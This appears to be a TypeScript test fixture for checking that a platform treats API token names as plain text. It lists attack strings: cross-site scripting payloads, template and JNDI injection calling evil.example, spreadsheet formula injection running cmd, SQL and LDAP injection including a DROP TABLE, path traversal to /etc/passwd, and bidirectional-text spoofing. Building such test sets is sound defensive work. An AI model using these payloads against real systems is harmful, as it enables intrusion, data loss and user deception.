/** Each calls `hit` or sends a request to another server if treated as more than text. */
const scripts = [
  "<script>hit()</script>",
  '"><script data-hostile>hit()</script>',
  "<img src=x onerror=hit() data-hostile>",
  '"><img src="https://evil.example/x.png" onload="hit()" data-hostile>',
  "<svg onload=hit() data-hostile><animate onbegin=hit() attributeName=x>",
  "'-hit()-'",
  '" onmouseover="hit()" onfocus="hit()" autofocus data-hostile="',
  "javascript:hit()",
  "jAvAsCrIpT&colon;hit()",
  "data:text/html,<script>hit()</script>",
  '<iframe srcdoc="<script>parent.hit()</script>" data-hostile></iframe>',
  "</title></script></style></textarea><script>hit()</script>",
  "--><script>hit()</script><!--",
  "]]><![CDATA[<script>hit()</script>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<a href="javascript:hit()" data-hostile>go</a>',
  "[go](javascript:hit()) ![x](https://evil.example/x.png)",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
];

const templates = [
  "{{7*7}} {{constructor.constructor('hit()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: looking like a template is the point
  "${7*7} ${hit()} `${hit()}`",
  "#{7*7} <%= 7*7 %> %{7*7}",
  "{7*7} $1 $& %s %d %n",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
  "${jndi:ldap://evil.example/a}",
];

/** Texts that spreadsheets read as formulas. */
const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example","go")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "+1",
  "-1+1",
];

const queries = ["'; DROP TABLE api_token; --", '" OR ""="', "\\'; --", "%_%", "*)(uid=*))(|(uid=*"];

const words = [
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "__proto__",
  "constructor",
  "toString",
  "../../../etc/passwd",
  "C:\\con",
];

const writing = [
  "שלום (עולם) → 1 + 2",
  "مرحبا بالعالم 123",
  "\u200Fright\u200F to left",
  "zero\u200Bwidth\u200D\u2060joined",
  "e\u0301 and \u00E9",
  `Z${"\u0300\u0301\u0302\u0323\u0330\u033B".repeat(19)}`,
  "\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E0062}\u{E007F}",
  "W".repeat(120),
  // Each character is as wide as a whole line of others.
  "﷽".repeat(120),
];

/** A bit of everything, as long as a name may be. */
export const worst = `"><img src=x onerror=hit() data-hostile> {{7*7}} (שלום) Z${"\u0300\u0323".repeat(10)} ﷽﷽﷽${"W".repeat(30)}`;

/** Texts allowed as a token’s name. */
export const hostileNames = [worst, ...scripts, ...templates, ...formulas, ...queries, ...words, ...writing];

/** Texts with bidirectional marks or control characters, allowed neither in tokens nor in platform files. */
export const hostileMarks = [
  "\u202Egnp.exe",
  "\u202E)moc.live(\u202C \u2066x\u202E",
  "a\u2069\u202Eb\u2067",
  "\u001B[31mred\u001B]8;;https://evil.example\u0007",
  "nul\u0000l \u0008\u007F",
  "tab\t=1+1\rline\n=1+1",
];
